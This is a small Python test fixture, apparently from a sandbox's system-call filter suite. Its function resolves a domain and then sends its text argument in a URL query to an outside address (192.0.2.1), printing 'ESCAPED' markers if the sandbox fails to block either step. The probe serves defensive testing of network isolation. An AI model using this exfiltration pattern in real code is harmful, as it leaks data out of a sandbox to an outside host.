"""Asks a name server and sends what it was given to a machine outside.

layer: system call filter
outcome: error
plain: not run
"""
# ruff: noqa

import socket
import urllib.request


def count(text):
    socket.getaddrinfo("example.org", 80)
    print("ESCAPED: a name was resolved")
    urllib.request.urlopen(f"http://192.0.2.1/?{text}", timeout=1)
    print("ESCAPED: connected")
